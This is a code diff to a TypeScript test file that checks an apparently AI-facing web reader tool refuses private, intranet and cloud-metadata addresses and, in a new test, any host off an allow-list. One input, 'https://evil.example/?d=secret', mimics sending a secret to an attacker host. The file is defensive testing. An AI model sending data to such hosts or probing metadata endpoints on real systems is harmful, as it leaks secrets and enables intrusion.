@@ -71,7 +71,7 @@ const services: Readonly<
 type Played = { readonly status?: number; readonly body?: string };
 
 /** The services play on this machine, at an address that only the operator's word opens. */
-async function searcher(t: TestContext, provider: SearchProvider, played: Played = {}) {
+async function searcher(t: TestContext, provider: SearchProvider, played: Played = {}, hosts: string[] = []) {
   const { on, answer, header } = services[provider];
   const asked: string[] = [];
   const keys: unknown[] = [];
@@ -88,7 +88,7 @@ async function searcher(t: TestContext, provider: SearchProvider, played: Played
   });
   const url = `http://127.0.0.1:${port}`;
   const search: SearchSettings = { ...webSettings.search, [provider]: { url, searchUrl: url, readerUrl: url, ...on } };
-  const { web } = noteWeb({ settings: { search }, reach: () => port });
+  const { web } = noteWeb({ settings: { search, hosts }, reach: () => port });
   const { call } = await fileTools(t);
   const ask = async (tool: string, input: object) => (await call(tool, input, { web })).text;
   return { ask, asked, keys };
@@ -157,4 +157,11 @@ test("google_search and jina_reader have their own service, and are off without 
   for (const url of ["http://10.0.0.1/", "http://wiki.corp/", "http://intranet/", "http://169.254.169.254/"])
     assert.match(await jina.ask("jina_reader", { url }), /^Error: web_address_refused:/, url);
   assert.equal(jina.asked.length, 1);
+});
+
+test("jina_reader reads no page of a host that is not among those that may be reached [T7]", async (t) => {
+  const { ask, asked } = await searcher(t, "jina", { body: "read" }, ["docs.example"]);
+  assert.match(await ask("jina_reader", { url: "https://evil.example/?d=secret" }), /^Error: web_address_refused:/);
+  assert.match(await ask("jina_reader", { url: " https://docs.example/a " }), /\nread$/);
+  assert.deepEqual(asked, ["GET /https://docs.example/a"]);
 });
